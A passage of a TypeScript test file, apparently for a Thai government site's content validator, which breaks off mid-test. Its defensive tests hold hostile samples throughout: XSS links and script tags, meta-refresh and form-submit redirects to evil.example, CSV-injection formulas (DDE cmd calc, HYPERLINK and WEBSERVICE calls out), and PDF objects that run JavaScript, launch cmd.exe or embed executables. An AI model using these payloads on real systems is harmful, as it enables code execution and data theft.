import { describe, it, expect, afterAll } from 'vitest';
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { zipSync } from 'fflate';
import path from 'node:path';
import { loadAndValidateContent } from '../../src/lib/content/load-content.ts';
import { procurementDatasets } from '../../src/lib/procurement-views/exports.ts';
import type { ContentProblem } from '../../src/lib/content/problem.ts';
import { tinyPdf } from '../helpers/tiny-pdf.ts';
import { copyFixtureSite, projectRoot, type ScratchSite } from '../../scripts/lib/fixture-site.ts';
import { parse } from 'csv-parse/sync';
import type { ContentModel } from '../../src/lib/content/model.ts';
import { toCsv } from '../../src/lib/exports/csv.ts';
import { documentsDataset, itaResultsDataset, measuresDataset } from '../../src/lib/exports/datasets.ts';
import { itasColumns, itasRows } from '../../src/lib/exports/itas-sheet.ts';
import { collectEvidence } from '../../src/lib/oit/evidence.ts';
import { assessCatalogue } from '../../src/lib/oit/status.ts';
import { checkAttachmentType } from '../../src/lib/guards/attachment-type.ts';
import { problemText } from '../../src/i18n/problems.ts';
import { bytesOf, compoundFile, ooxml, openDocument, pdfWith, simplePdf } from '../helpers/attachment-bytes.ts';

const sites: ScratchSite[] = [];
afterAll(async () => Promise.all(sites.map((site) => site.remove())));
let count = 0;
async function scratch(): Promise<ScratchSite> {
  const site = await copyFixtureSite('minimal', `safety-${(count += 1)}`);
  sites.push(site);
  return site;
}
const errorsOf = async (site: ScratchSite): Promise<ContentProblem[]> =>
  (await loadAndValidateContent(site.root, path.relative(site.root, path.join(site.root, 'content')))).problems.filter(
    (problem) => problem.severity === 'error',
  );
const planFile = 'content/documents/2567/procurement-plan.md';
const withBody = (site: ScratchSite, markdown: string) => site.edit(planFile, (text) => `${text}\n${markdown}\n`);
const pageFile = (name: string, body = 'เนื้อหา') => `---\ntitle: หน้าทดสอบ\n---\n${body}\n`.replace('หน้าทดสอบ', name);

describe('content is data, never code: MDX is refused in every collection', () => {
  it.each(['content/pages/notice.mdx', 'content/documents/2567/notice.mdx', 'content/measures/2567/notice.MDX', 'content/news/notice.mdx'])(
    '%s',
    async (file) => {
      const site = await scratch();
      await site.write(file, `---\ntitle: ประกาศ\n---\nimport fs from "node:fs";\n\n{fs.readFileSync("/etc/hostname", "utf8")}\n`);
      const problems = await errorsOf(site);
      const mdx = problems.filter((problem) => problem.en.includes('not .mdx'));
      expect(mdx).toEqual([expect.objectContaining({ file: expect.stringMatching(new RegExp(`${path.basename(file).replace('.', '\\.')}$`)), line: 1 })]);
      // Nothing else about it (its fields are never read); an upper-case extension is also a bad file name.
      expect(problems.filter((problem) => !mdx.includes(problem)).every((problem) => problem.en.includes('bad web address'))).toBe(true);
    },
  );
});

describe('only regular files inside content/ are read or published', () => {
  it('a symlinked page, a symlinked folder and a symlinked attachment are each reported as a link, never as missing', async () => {
    const site = await scratch();
    const outside = path.join(projectRoot, '.prongsai/test-sites/outside-secret');
    await mkdir(outside, { recursive: true });
    await writeFile(path.join(outside, 'secret.md'), pageFile('ลับ', 'เลข 1-1037-02071-81-1'));
    await symlink(path.join(outside, 'secret.md'), path.join(site.root, 'content/pages/leak.md'));
    await symlink(outside, path.join(site.root, 'content/documents/2568'));
    await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', 'file: linked.pdf'));
    await symlink(path.join(site.root, 'content/documents/2567/procurement-plan-2567.pdf'), path.join(site.root, 'content/documents/2567/linked.pdf'));
    const problems = await errorsOf(site);
    const files = problems.map((problem) => problem.file.replace(/^.*content\//, ''));
    expect(files.sort()).toEqual(['documents/2567/linked.pdf', 'documents/2568', 'pages/leak.md']);
    for (const problem of problems) expect(problem.th).toContain('ลิงก์สัญลักษณ์');
    expect(problems.map((problem) => problem.en).join(' ')).not.toMatch(/missing|national ID/);
  });

  it('an attachment outside the content folder is named as such', async () => {
    const site = await scratch();
    await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', 'file: ../../../../package.json'));
    const problems = await errorsOf(site);
    expect(problems.map((problem) => problem.en)).toEqual([expect.stringContaining('outside the content folder')]);
  });

  it.each([
    ['an accent stored decomposed (NFD, as macOS writes names)', 'café-2567.pdf', 'cafe\u0301-2567.pdf'],
    ['SARA AM typed as NIKHAHIT + SARA AA', 'คำสั่ง.pdf', 'ค\u0E4D\u0E32สั่ง.pdf'],
  ])('a file name that looks the same but is stored differently is named with both spellings: %s', async (_name, onDisk, written) => {
    const site = await scratch();
    await site.write(`content/documents/2567/${onDisk}`, tinyPdf());
    await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', `file: "${written}"`));
    const problems = (await errorsOf(site)).filter((problem) => !problem.en.includes('bad web address'));
    expect(problems.map((problem) => problem.en)).toEqual([
      `file name "${written}" looks like "${onDisk}" but its vowels or tone marks are stored differently (Unicode NFC/NFD)`,
    ]);
  });
});

describe('the rendered HTML is checked, whatever the encoding (the class of javascript: links)', () => {
  it.each([
    ['reference definition with an entity', '[ดูเอกสาร][ref]\n\n[ref]: &#106;avascript:alert(1)'],
    ['hex entity', '[ดู](&#x6A;avascript:alert(1))'],
    ['mixed case', '[ดู](JaVaScRiPt:alert(1))'],
    ['tab inside the scheme (browsers drop it)', '<a href="java&#9;script:alert(1)">ดู</a>'],
    ['leading spaces in an HTML attribute', '<a href="  javascript:alert(1)">ดู</a>'],
    ['angle-bracket link destination', '[ดู](<javascript:alert(1)>)'],
    ['autolink', '<javascript:alert(1)>'],
    ['image source', '![รูป](javascript:alert(1))'],
    ['vbscript', '[ดู](vbscript:msgbox(1))'],
    ['data: HTML', '[ดู](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['file: URL', '[ดู](file:///etc/passwd)'],
    ['HTML entity colon', '<a href="javascript&colon;alert(1)">ดู</a>'],
  ])('%s', async (_name, markdown) => {
    const site = await scratch();
    await withBody(site, markdown);
    const problems = await errorsOf(site);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.every((problem) => /not allowed|may not carry|content may not/.test(problem.en))).toBe(true);
    expect(problems[0]?.line).toBeGreaterThanOrEqual(12);
  });

  it('keeps the safe ones: https, mailto, tel, relative links and same-page anchors', async () => {
    const site = await scratch();
    await withBody(
      site,
      '[เว็บ](https://www.nacc.go.th/) [อีเมล](mailto:saraban@example.go.th) [โทร](tel:044123456) [แผน](procurement-plan-2567.pdf) [บน](#top)\n\n| ลำดับ | รายการ |\n|:--|--:|\n| 1 | จัดซื้อ |\n\n- [x] ทำแล้ว\n\nหมายเหตุ[^1]\n\n[^1]: ตามประกาศ',
    );
    expect(await errorsOf(site)).toEqual([]);
  });
});

describe('dangerous elements and attributes are refused (the class of redirects, embeds and handlers)', () => {
  it.each([
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', 'meta'],
    ['<base href="https://evil.example/">', 'base'],
    ['<script>alert(1)</script>', 'script'],
    ['<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', 'script'],
    ['<style>body{display:none}</style>', 'style'],
    ['<iframe src="https://evil.example"></iframe>', 'iframe'],
    ['<object data="x.swf"></object>', 'object'],
    ['<embed src="x.swf">', 'embed'],
    ['<form action="https://evil.example"><input name="pin"></form>', 'form'],
    ['<svg><script>alert(1)</script></svg>', 'svg'],
    ['<math><mi>x</mi></math>', 'math'],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', 'link'],
    ['<template><img src=x onerror=alert(1)></template>', 'template'],
  ])('%s', async (markup, element) => {
    const site = await scratch();
    await withBody(site, markup);
    const problems = await errorsOf(site);
    expect(problems.map((problem) => problem.en)).toContain(
      `the content contains a <${element}> element, which published content may not carry (it can run code, redirect the page or embed another site)`,
    );
    expect(problems[0]?.line).toBe(13);
  });

  it.each([
    ['<img src="x.png" onerror="alert(1)">', 'onerror'],
    ['<img src="x.png" ONERROR="alert(1)">', 'onerror'],
    ['<details ontoggle="alert(1)" open><summary>ดู</summary></details>', 'ontoggle'],
    ['<p style="position:fixed;inset:0">หลอก</p>', 'style'],
    ['<a href="/" data-pagefind-weight="10">ดัน</a>', 'data-pagefind-weight'],
    ['<input type="password" name="pin">', 'type'],
  ])('%s', async (markup, attribute) => {
    const site = await scratch();
    await withBody(site, markup);
    const problems = await errorsOf(site);
    expect(problems.some((problem) => problem.en.includes(`the attribute ${attribute}`))).toBe(true);
  });
});

describe('robust parsing: every problem reported, no stack trace', () => {
  it('a YAML alias bomb is one clear problem, and the other files are still checked', async () => {
    const site = await scratch();
    const bomb = [
      'a: &a [1,1,1,1,1,1,1,1,1,1]',
      ...'bcdefgh'.split('').map((key, index) => `${key}: &${key} [${Array(10).fill(`*${'abcdefgh'[index]}`).join(',')}]`),
    ].join('\n');
    await site.write('content/measures/2567/bomb.md', `---\n${bomb}\n---\n`);
    await site.edit('content/documents/2567/procurement-2567-01.md', (text) => text.replace('published: 2567-02-29', 'published: 2567-02-30'));
    const problems = await errorsOf(site);
    expect(problems.map((problem) => [problem.file.replace(/^.*content\//, ''), problem.en])).toEqual([
      ['documents/2567/procurement-2567-01.md', expect.stringContaining('not a real calendar day')],
      ['measures/2567/bomb.md', expect.stringContaining('too many YAML aliases')],
    ]);
  });

  it('invalid UTF-8, an empty file and front matter that is a list each name the file and line', async () => {
    const site = await scratch();
    await writeFile(
      path.join(site.root, 'content/news/tis620.md'),
      Buffer.concat([Buffer.from('---\ntitle: ok\n'), Buffer.from([0xbb, 0xc3, 0xd0, 0x0a]), Buffer.from('---\n')]),
    );
    await site.write('content/news/empty.md', '');
    await site.write('content/news/list.md', '---\n- title: ข่าว\n- date: 2567-01-01\n---\nเนื้อหา\n');
    const problems = await errorsOf(site);
    expect(problems.map((problem) => [problem.file.replace(/^.*content\//, ''), problem.line, problem.en])).toEqual([
      ['news/empty.md', 1, 'the file is empty'],
      ['news/list.md', 2, 'the data must be fields (name: value), but it is a list (lines starting with -)'],
      ['news/tis620.md', 3, expect.stringContaining('not saved as UTF-8 (unreadable bytes on line 3)')],
    ]);
  });
});

describe('messages staff can act on', () => {
  it.each([
    ['a colon inside a title', 'title: แผนการจัดซื้อจัดจ้าง: ฉบับปรับปรุง', 2, 'put quotes around a value that contains a colon, e.g. title: "Plan: revised"'],
    ['a field written twice, by name', 'fiscalYear: 2567\nfiscalYear: 2567', 5, undefined],
    [
      'a list bracket never closed, at its opening line',
      'measures: [2567/no-gift\nsummary: สรุป',
      4,
      'close it with ] on the same line, or write one item per line starting with -',
    ],
    ['a value starting with a dash', 'summary: - รายงาน', 4, 'quote the value, e.g. summary: "- text"'],
  ])('%s', async (_name, yaml, line, fixEn) => {
    const site = await scratch();
    await site.write(
      'content/documents/2567/typo.md',
      `---\n${yaml.startsWith('title') ? yaml : 'title: เอกสาร'}\ntype: procurement-plan\n${yaml.startsWith('title') ? 'fiscalYear: 2567' : yaml}\n---\nเนื้อหา\n`,
    );
    const problems = (await errorsOf(site)).filter((problem) => problem.file.endsWith('typo.md'));
    expect(problems).toHaveLength(1);
    expect(problems[0]?.line).toBe(line);
    if (fixEn) expect(problems[0]?.fixEn).toBe(fixEn);
    else expect(problems[0]?.th).toBe('ช่อง "fiscalYear" ซ้ำ (มีแล้วในบรรทัด 4)');
  });

  it('shows a date as the staff typed it (BE), not converted', async () => {
    const site = await scratch();
    await site.edit(planFile, (text) => text.replace('published: 2566-10-20', 'published: 2568-06-20'));
    const [problem] = await errorsOf(site);
    expect(problem?.th).toContain('"2568-06-20"');
    expect(problem?.th).not.toContain('2024');
  });
});

describe('no cascades and no silent drops', () => {
  it('a measure with broken YAML reports its own problem only, not "not found" in the files citing it', async () => {
    const site = await scratch();
    await site.edit('content/measures/2567/no-gift.md', (text) => text.replace('stage: recommended', 'stage: [recommended'));
    const problems = await errorsOf(site);
    expect(problems.map((problem) => problem.file.replace(/^.*content\//, ''))).toEqual(['measures/2567/no-gift.md']);
  });

  it('a document in a folder named like the document lists is an error, not a page that silently replaces a list', async () => {
    const site = await scratch();
    await site.write('content/documents/year/2567.md', `---\ntitle: เอกสาร\ntype: procurement-plan\nfiscalYear: 2567\n---\nเนื้อหา\n`);
    const problems = await errorsOf(site);
    expect(problems.map((problem) => problem.en)).toEqual([expect.stringContaining('page name "documents/year" is taken by a built-in page')]);
  });

  it('a page whose name is taken by a built-in page is an error listing the reserved names', async () => {
    const site = await scratch();
    await site.write('content/pages/contact.md', pageFile('ติดต่อเรา'));
    const [problem, ...rest] = await errorsOf(site);
    expect(rest).toEqual([]);
    expect(problem?.en).toMatch(/page name "contact" is taken by a built-in page \(reserved: .*complaints.*contact.*documents/);
  });
});

describe('attachments, through validation: by their bytes, and read for personal data', () => {
  it.each([
    ['an SVG with a script', 'diagram.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['an HTML page', 'notice.html', '<!doctype html><html><body><script>alert(1)</script></body></html>'],
    ['HTML named as a PDF', 'report.pdf', '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example"></head></html>'],
  ])('refuses %s, naming the file', async (_name, file, bytes) => {
    const site = await scratch();
    await site.write(`content/documents/2567/${file}`, bytes);
    const problems = await errorsOf(site);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.every((problem) => problem.file.endsWith(`content/documents/2567/${file}`))).toBe(true);
  });

  it('finds a national ID in a CSV attachment, and one hidden by a zero-width space in a page body', async () => {
    const site = await scratch();
    await site.write('content/documents/2567/applicants.csv', 'ชื่อ,เลขประจำตัวประชาชน\nนายทดสอบ ใจดี,1103700234560\n');
    await withBody(site, 'ผู้ยื่นคำขอ 1103700\u200B234560');
    const problems = await errorsOf(site);
    const files = problems.map((problem) => problem.file.replace(/^.*content\//, '')).sort();
    expect(files).toEqual(['documents/2567/applicants.csv', 'documents/2567/procurement-plan.md']);
    for (const problem of problems) {
      expect(problem.th).toContain('1-1037-XXXXX-XX-0');
      expect(problem.th).not.toContain('00234');
    }
  });

  it('refuses a damaged PDF and lists a scan without a text layer as not checked for personal data', async () => {
    const site = await scratch();
    await site.write('content/documents/2567/broken.pdf', '%PDF-1.4\nnot really a pdf\n%%EOF\n');
    await site.write('content/documents/2567/blank-scan.pdf', tinyPdf());
    const { problems } = await loadAndValidateContent(site.root, 'content');
    const about = (name: string) => problems.filter((problem) => problem.file.endsWith(name));
    expect(about('broken.pdf').map((problem) => problem.severity)).toEqual(['error']);
    expect(about('blank-scan.pdf')).toEqual([expect.objectContaining({ severity: 'warning', personalDataNotChecked: true })]);
  });
});

describe('published spreadsheets carry no formulas (CSV injection, OWASP): every export, every character', async () => {
  const loaded = await loadAndValidateContent(path.join(projectRoot, 'tests/fixtures/sites/minimal'));
  if (!loaded.model) throw new Error('the minimal fixture does not validate');
  const fixture = loaded.model;

  // Each starts a formula in Excel or LibreOffice as typed, after what they skip, or as a look-alike they may fold.
  const payloads: [string, string][] = [
    ['=', '=HYPERLINK("http://evil.example/x","ดูเอกสาร")'],
    ['= DDE', "=cmd|' /C calc'!A0"],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
    ['leading spaces', '   =1+1'],
    ['line feed first', '\n=1+1'],
    ['no-break space', '\u00a0=1+1'],
    ['ideographic space', '\u3000=1+1'],
    ['zero-width space', '\u200b=1+1'],
    ['full-width =', '＝1+1'],
    ['full-width +', '＋1+1'],
    ['full-width -', '－1+1'],
    ['full-width @', '＠SUM(1)'],
    ['minus sign', '−1+1'],
  ];

  /** The file as a spreadsheet reads it: BOM dropped, quotes resolved, one array per row. */
  const cells = (csv: string) => parse(csv, { bom: true, relax_column_count: true }) as string[][];
  /** What a spreadsheet would run: a cell starting with = + - @ (or a look-alike) after spaces, or with a tab or CR. */
  const runsAsFormula = (cell: string) => /^[\t\r]/.test(cell) || /^[\s\u200b\u3000\u00a0]*[=+\-@＝＋－＠−]/.test(cell);
  const plainNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);
  const expectInert = (csv: string, payload: string) => {
    const table = cells(csv);
    const all = table.flat();
    expect(all).toContain(`'${payload}`);
    expect(all.filter((cell) => !plainNumber(cell) && runsAsFormula(cell))).toEqual([]);
    // The neutralised cell is quoted, as OWASP advises, so its own quotes and separators stay inside it.
    expect(csv).toContain(`"'${payload.replace(/"/g, '""')}"`);
  };

  const withDocumentTitle = (title: string): ContentModel => ({
    ...fixture,
    documents: fixture.documents.map((entry) => ({ ...entry, data: { ...entry.data, title } })),
  });
  const withMeasureText = (text: string): ContentModel => ({
    ...fixture,
    measures: fixture.measures.map((entry) => ({
      ...entry,
      data: { ...entry.data, responsibleUnit: text, rounds: entry.data.rounds.map((round) => ({ ...round, result: text })) },
    })),
  });
  const withIndicatorTitle = (title: string): ContentModel => ({
    ...fixture,
    catalogues: fixture.catalogues.map((entry) => ({
      ...entry,
      data: { ...entry.data, indicators: entry.data.indicators.map((indicator) => ({ ...indicator, title })) },
    })),
  });

  it.each(payloads)('data/documents.csv: a title starting with %s', (_name, payload) => {
    const dataset = documentsDataset(withDocumentTitle(payload));
    expectInert(toCsv(dataset.rows, dataset.columns), payload);
  });

  it.each(payloads)('data/measures.csv: a responsible unit and a round result starting with %s', (_name, payload) => {
    const dataset = measuresDataset(withMeasureText(payload));
    expectInert(toCsv(dataset.rows, dataset.columns), payload);
  });

  it.each(payloads)('data/ita-results.csv: an indicator title starting with %s', (_name, payload) => {
    const dataset = itaResultsDataset(withIndicatorTitle(payload));
    expectInert(toCsv(dataset.rows, dataset.columns), payload);
  });

  it.each(payloads)('oit/<year>/itas.csv (the sheet pasted into ITAS): an item title starting with %s', (_name, payload) => {
    const catalogue = fixture.catalogues.find((entry) => entry.data.year === 2567)!.data;
    const tampered = { ...catalogue, items: catalogue.items.map((item) => ({ ...item, title: payload })) };
    const assessment = assessCatalogue(tampered, collectEvidence(fixture), fixture.site, '2024-06-30');
    for (const showGaps of [false, true])
      expectInert(toCsv(itasRows(2567, assessment, fixture.site.siteUrl, { showGaps }), itasColumns({ showGaps })), payload);
  });

  it.each(payloads)('data/procurement-<year>.csv: an item and a winner starting with %s', async (_name, payload) => {
    const year = await loadAndValidateContent(path.join(projectRoot, 'tests/fixtures/sites/procurement-year'));
    if (!year.model) throw new Error('the procurement-year fixture does not validate');
    const procurement = year.model.procurement!;
    const months = procurement.months.map((month) => ({
      ...month,
      data: { ...month.data, rows: month.data.rows.map((row) => ({ ...row, item: payload, winner: { ...row.winner, name: payload } })) },
    }));
    const tampered = { ...year.model, procurement: { ...procurement, months } };
    const [dataset] = procurementDatasets(tampered);
    expectInert(toCsv(dataset!.rows, dataset!.columns), payload);
  });

  it('keeps numbers numbers: a negative amount is written bare, not as text', () => {
    const csv = toCsv(
      [
        { amount: -1500.5, note: 'คืนเงิน' },
        { amount: -5, note: '-5' },
      ],
      [
        { header: 'amount', value: (row) => row.amount },
        { header: 'note', value: (row) => row.note },
      ],
    );
    expect(csv).toContain('\r\n-1500.5,คืนเงิน\r\n');
    // The same characters typed as text are text.
    expect(csv).toContain(`\r\n-5,"'-5"\r\n`);
    expect(
      cells(csv)
        .slice(1)
        .map((row) => row[0]),
    ).toEqual(['-1500.5', '-5']);
  });

  it('leaves ordinary Thai text, dates and addresses untouched', () => {
    const dataset = documentsDataset(fixture);
    const csv = toCsv(dataset.rows, dataset.columns);
    expect(csv).not.toContain("'");
    expect(cells(csv)[1]).toContain('2024-02-29');
  });
});

describe('PDF attachments with active content are refused, however the PDF hides it; links stay allowed', () => {
  const js = '<< /S /JavaScript /JS (this.exportDataObject({ cName: "invoice.exe", nLaunch: 2 })) >>';
  const annotation = (action: string) => ({ page: '/Annots [5 0 R]', objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>`] });
  const refused: [string, Parameters<typeof pdfWith>[0], string[]][] = [
    ['OpenAction running JavaScript (exportDataObject)', { catalog: '/OpenAction 5 0 R', objects: [js] }, ['javascript']],
    [
      'a document-level script in the JavaScript name tree',
      { catalog: '/Names << /JavaScript 5 0 R >>', objects: ['<< /Names [(init) 6 0 R] >>', '<< /S /JavaScript /JS (app.alert(1)) >>'] },
      ['javascript'],
    ],
    ['a link that launches a program', annotation('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), ['launch']],
    ['OpenAction launching a file', { catalog: '/OpenAction << /S /Launch /F (payload.exe) >>' }, ['launch']],
    ['additional actions on a page', { page: '/AA << /O 5 0 R >>', objects: [js] }, ['javascript', 'additional-actions']],
    ['additional actions on the catalogue, without script', { catalog: '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>' }, ['additional-actions']],
    [
      'an embedded file (EmbeddedFiles name tree, file specification, EmbeddedFile stream)',
      {
        catalog: '/Names << /EmbeddedFiles 5 0 R >>',
        objects: [
          '<< /Names [(invoice.exe) 6 0 R] >>',
          '<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>',
          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
        ],
      },
      ['embedded-file'],
    ],
    [
      'a file attachment annotation',
      { page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>', '<< /Type /Filespec /F (a.docm) >>'] },
      ['embedded-file'],
    ],
    ['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: ['<< /Length 7 >>\nstream\n<xdp/>\n\nendstream'] }, ['xfa']],
    ['a form that submits itself elsewhere', annotation('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'), ['submit-form']],
    ['a form that imports data', annotation('<< /S /ImportData /F (data.fdf) >>'), ['import-data']],
    [
      'rich media (Flash, video, 3D)',
      { page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>'] },
      ['rich-media'],
    ],
    ['JavaScript behind a name escape (/J#61vaScript, /J#53)', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }, ['javascript']],
    [
      'JavaScript behind lower-case hex escapes (/#4aavaScript, /#4a#53)',
      { catalog: '/OpenAction << /S /#4aavaScript /#4a#53 (app.alert(1)) >>' },
      ['javascript'],
    ],
    ['Launch behind an escape (/L#61unch)', annotation('<< /S /L#61unch /F (cmd.exe) >>'), ['launch']],
    ['JavaScript in a compressed object stream', { catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true }, ['javascript']],
    [
      'escaped names in a compressed object stream',
      { catalog: '/Names << /EmbeddedFil#65s 5 0 R >> /OpenAction << /S /J#61vaScript /JS (1) >>', objects: ['<< /Names [] >>'], objectStream: true },
      ['javascript', 'embedded-file'],
    ],
  ];

  const activeProblems = async (name: string, bytes: Uint8Array) => {
    const check = await checkAttachmentType(name, bytes);
    return check.ok ? [] : check.problems.filter((problem) => problem.key === 'attachment.pdf-active-content');
  };

  it.each(refused)('refuses %s', async (_name, parts, found) => {
    const problems = await activeProblems('notice.pdf', pdfWith(parts));
    expect(problems).toEqual([{ key: 'attachment.pdf-active-content', params: { path: 'notice.pdf', found } }]);
  });

  it('sees what an object stream hides from the bytes, not by grepping them', () => {
    const packed = new TextDecoder('latin1').decode(pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true }));
    expect(packed).not.toMatch(/JavaScript|OpenAction|exportDataObject/);
  });

  it('refuses a PDF whose compressed objects cannot be unpacked to be checked', async () => {
    const packed = pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true });
    const text = new TextDecoder('latin1').decode(packed);
    // The same object stream with its compressed bytes damaged: a reader may still recover what the checker cannot see.
    const start = text.indexOf('stream\n', text.indexOf('/ObjStm')) + 7;
    const damaged = packed.slice();
    damaged.set(bytesOf('garbage!'), start);
    expect((await activeProblems('notice.pdf', damaged)).map((problem) => problem.params)).toEqual([{ path: 'notice.pdf', found: ['unreadable-objects'] }]);
  });

  it('refuses JavaScript in the compressed objects of a PDF encrypted with restrictions only (an empty open password)', async () => {
    const { PDFDocument, PDFName, PDFString } = await import('@cantoo/pdf-lib');
    const document = await PDFDocument.create();
    document.addPage([200, 200]);
    document.catalog.set(PDFName.of('OpenAction'), document.context.register(document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })));
    document.encrypt({ userPassword: '', ownerPassword: 'owner-secret', permissions: {} });
    const bytes = await document.save({ useObjectStreams: true });
    expect(new TextDecoder('latin1').decode(bytes)).not.toContain('JavaScript');
    expect((await activeProblems('notice.pdf', bytes)).map((problem) => problem.params)).toEqual([{ path: 'notice.pdf', found: ['javascript'] }]);
  });

  it('refuses script added by an incremental update to a clean PDF', async () => {
    const clean = new TextDecoder('latin1').decode(pdfWith());
    const update = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>\nendobj\n9 0 obj\n${js}\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 10 /Root 1 0 R /Prev ${clean.lastIndexOf('xref')} >>\nstartxref\n${clean.length}\n%%EOF\n`;
    const problems = await activeProblems('notice.pdf', bytesOf(clean + update));
    expect(problems.map((problem) => problem.params)).toEqual([{ path: 'notice.pdf', found: ['javascript'] }]);
  });

  it('refuses an active PDF inside a ZIP, naming the file inside', async () => {
    const archive = zipSync({ 'docs/notice.pdf': pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js] }) });
    const check = await checkAttachmentType('bundle.zip', archive);
    expect(check.ok ? [] : check.problems).toEqual([
      { key: 'attachment.pdf-active-content', params: { path: 'bundle.zip', inArchive: 'docs/notice.pdf', found: ['javascript'] } },
    ]);
  });

  it.each([
    ['a web link (/URI)', annotation('<< /S /URI /URI (https://www.nacc.go.th/) >>')],
    ['a link inside the document (/GoTo)', annotation('<< /S /GoTo /D [3 0 R /Fit] >>')],
    ['OpenAction to the first page', { catalog: '/OpenAction [3 0 R /Fit]' }],
    ['an ordinary form field', { catalog: '/AcroForm << /Fields [5 0 R] >>', objects: ['<< /FT /Tx /T (name) /V (สมชาย) >>'] }],
    ['the same, in an object stream', { catalog: '/OpenAction [3 0 R /Fit]', objects: ['<< /S /URI /URI (https://www.nacc.go.th/) >>'], objectStream: true }],
  ])('accepts %s', async (_name, parts) => {
    expect(await checkAttachmentType('notice.pdf', pdfWith(parts))).toMatchObject({ ok: true });
  });

  it('accepts the PDFs the example site and the fixtures publish', async () => {
    const fixtures = ['thai-manual', 'scanned-declaration', 'national-id', 'owner-password-only', 'password-protected'].map((name) =>
      readFile(path.join(projectRoot, `tests/fixtures/pdf/${name}.pdf`)),
    );
    for (const bytes of [simplePdf({ lines: ['Report 2567'], info: { Title: 'รายงาน' } }), bytesOf(tinyPdf()), ...(await Promise.all(fixtures))]) {
      expect(await checkAttachmentType('report.pdf', new Uint8Array(bytes))).toMatchObject({ ok: true });
    }
  });

  it('tells staff in Thai what the PDF holds and how to save a clean copy', () => {
    const text = problemText('attachment.pdf-active-content', { path: 'documents/2567/notice.pdf', found: ['javascript', 'launch', 'embedded-file'] });
    expect(text.th).toContain('ไฟล์แนบ "documents/2567/notice.pdf"');
    expect(text.th).toContain('JavaScript');
    expect(text.th).toContain('เปิดโปรแกรม');
    expect(text.th).toContain('ไฟล์อื่นฝัง');
    expect(text.fixTh).toContain('Microsoft Print to PDF');
    expect(text.fixTh).toContain('PDF/A');
    expect(text.en).toContain('JavaScript');
  });

  it('is reported by validation, naming the attachment', async () => {
    const site = await scratch();
    await writeFile(
      path.join(site.root, 'content/documents/2567/procurement-plan-2567.pdf'),
      pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true }),
    );
    const problems = await errorsOf(site);
    expect(problems).toEqual([
      expect.objectContaining({
        file: expect.stringMatching(/content\/documents\/2567\/procurement-plan-2567\.pdf$/),
        th: expect.stringContaining('JavaScript'),
      }),
    ]);
  });
});

describe('CSV attachments carry no formula that reaches out (what staff publish is opened in Excel too)', () => {
  const csvWith = (cell: string) => `ลำดับ,รายการ,จำนวนเงิน\n1,จัดซื้อวัสดุสำนักงาน,-500\n2,${cell},1200\n`;
  const formulaProblems = async (text: string) => {
    const check = await checkAttachmentType('procurement.csv', bytesOf(text));
    return check.ok ? [] : check.problems.filter((problem) => problem.key === 'attachment.csv-formula');
  };

  it.each([
    ['=HYPERLINK', '"=HYPERLINK(""http://evil.example/x"",""ดูเอกสาร"")"'],
    ['DDE', "=cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+', "+cmd|' /C calc'!A0"],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['after spaces, quoted', '"   =WEBSERVICE(""http://evil.example/"")"'],
    ['full-width =', '＝HYPERLINK("http://evil.example/")'],
  ])('refuses a cell starting %s, naming its line and column', async (_name, cell) => {
    expect((await formulaProblems(csvWith(cell))).map((problem) => problem.params)).toEqual([
      expect.objectContaining({ path: 'procurement.csv', line: 3, column: 2, count: 1 }),
    ]);
  });

  it('finds the cell in a semicolon- or tab-separated file, and behind an unclosed quote', async () => {
    expect(await formulaProblems('a;b\n1;=HYPERLINK("http://evil.example/")\n')).toHaveLength(1);
    expect(await formulaProblems('a\tb\n1\t=HYPERLINK("http://evil.example/")\n')).toHaveLength(1);
    expect(await formulaProblems('a,b\n"unclosed,x\n1,=HYPERLINK("http://evil.example/")\n')).toHaveLength(1);
  });

  it('accepts signed numbers, phone numbers, a dash for "none", Thai text after a dash and a dash inside quoted text', async () => {
    const check = await checkAttachmentType(
      'procurement.csv',
      bytesOf('ชื่อ,โทร,ยอด,หมายเหตุ\nก,+66 2 123 4567,-1234.50,-\nข,-,-500,-ไม่มี-\nค,(02) 123-4567,+15,"รวม VAT, - see page 2"\n'),
    );
